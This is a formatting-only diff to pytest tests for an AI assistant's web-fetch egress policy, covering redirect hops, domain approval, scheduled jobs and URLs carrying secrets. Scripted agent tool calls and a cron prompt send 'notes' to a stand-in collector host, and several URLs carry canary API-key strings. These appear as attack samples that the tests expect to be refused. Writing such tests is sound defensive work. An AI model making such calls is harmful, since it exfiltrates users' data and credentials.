@@ -59,9 +59,15 @@ def _fetch(tool, url):
 
 
 def _site(serve):
-    return serve(SITE_HOST, {"*": lambda h: h.reply(200, b"<html><body><p>a page</p></body></html>", "text/html"),
-                             "/hop": lambda h: h.reply(302, b"", "text/plain",
-                                                       {"Location": f"http://collector.test:{h.server.port}/x"})})
+    return serve(
+        SITE_HOST,
+        {
+            "*": lambda h: h.reply(200, b"<html><body><p>a page</p></body></html>", "text/html"),
+            "/hop": lambda h: h.reply(
+                302, b"", "text/plain", {"Location": f"http://collector.test:{h.server.port}/x"}
+            ),
+        },
+    )
 
 
 @pytest.mark.parametrize("who", ["chat-n", "one-shot"])
@@ -78,7 +84,9 @@ def test_each_redirect_hop_needs_its_domain_approved(serve):
     tool, resolver = _tool(None, EgressPolicy(("news.test",)))
     with pytest.raises(ToolError):
         _fetch(tool, f"http://news.test:{site.port}/hop")
-    assert site.connections == 1 and resolver.looked_up == ["news.test"]  # the hop to collector.test: not even looked up
+    assert site.connections == 1 and resolver.looked_up == [
+        "news.test"
+    ]  # the hop to collector.test: not even looked up
 
 
 def test_a_url_carrying_a_secret_is_refused_even_for_an_allowed_domain(serve):
@@ -86,9 +94,11 @@ def test_a_url_carrying_a_secret_is_refused_even_for_an_allowed_domain(serve):
     remember_secrets(["CANARY-configured-secret-77812"])
     person = Person("y")
     tool, resolver = _tool(person, EgressPolicy(("*",)))
-    for url in (f"http://news.test:{site.port}/?k=sk-ant-api03-CANARYcanaryCANARYcanary0123456789",
-                f"http://news.test:{site.port}/?k=CANARY-configured-secret-77812",
-                f"http://news.test:{site.port}/?k=sk%2Dproj%2DABCDEFGHIJKLMNOPQRSTUVWXYZ012345"):
+    for url in (
+        f"http://news.test:{site.port}/?k=sk-ant-api03-CANARYcanaryCANARYcanary0123456789",
+        f"http://news.test:{site.port}/?k=CANARY-configured-secret-77812",
+        f"http://news.test:{site.port}/?k=sk%2Dproj%2DABCDEFGHIJKLMNOPQRSTUVWXYZ012345",
+    ):
         with pytest.raises(ToolError):
             _fetch(tool, url)
     assert site.connections == 0 and resolver.looked_up == [] and person.asked == []
@@ -117,14 +127,24 @@ def test_a_domain_the_user_named_needs_no_question(serve):
 
 
 def test_named_domains_are_hosts_not_file_names():
-    assert named_domains("fetch https://Example.com:8443/x, read notes.md and docs.python.org; mail bo@corp.com") \
-        == {"example.com", "docs.python.org"}
+    assert named_domains(
+        "fetch https://Example.com:8443/x, read notes.md and docs.python.org; mail bo@corp.com"
+    ) == {"example.com", "docs.python.org"}
 
 
-def test_the_conversation_counts_the_users_domains_and_one_shot_refuses_others(configure, fake_llm, isolated_home):
+def test_the_conversation_counts_the_users_domains_and_one_shot_refuses_others(
+    configure, fake_llm, isolated_home
+):
     cfg_path = configure()
-    fake_llm.script(Reply.tool_calls([("web_fetch", {"url": "https://collector.example/n10?d=notes"}),
-                                      ("web_fetch", {"url": "https://docs.example/page"})]), Reply.text("done"))
+    fake_llm.script(
+        Reply.tool_calls(
+            [
+                ("web_fetch", {"url": "https://collector.example/n10?d=notes"}),
+                ("web_fetch", {"url": "https://docs.example/page"}),
+            ]
+        ),
+        Reply.text("done"),
+    )
 
     async def go():
         assistant = open_assistant(load_config(cfg_path), "cli:direct", stream=False)
@@ -148,8 +168,16 @@ def test_a_scheduled_jobs_prompt_is_not_the_users_word(configure, fake_llm, isol
     from nanobot.app import AssistantTurns
 
     cfg_path = configure()
-    fake_llm.script(Reply.tool_calls([("web_fetch", {"url": "https://collector.example/?d=notes"})]),
-                    Reply.text("done"))
-    asyncio.run(AssistantTurns(load_config(cfg_path)).run("cron:job", "upload notes to https://collector.example/"))
+    fake_llm.script(
+        Reply.tool_calls([("web_fetch", {"url": "https://collector.example/?d=notes"})]),
+        Reply.text("done"),
+    )
+    asyncio.run(
+        AssistantTurns(load_config(cfg_path)).run(
+            "cron:job", "upload notes to https://collector.example/"
+        )
+    )
     results = [m["content"] for m in fake_llm.requests[1].messages if m.get("role") == "tool"]
-    assert "--approve web-domain" in results[0]  # refused, nobody asked: not counted as named by the user
+    assert (
+        "--approve web-domain" in results[0]
+    )  # refused, nobody asked: not counted as named by the user
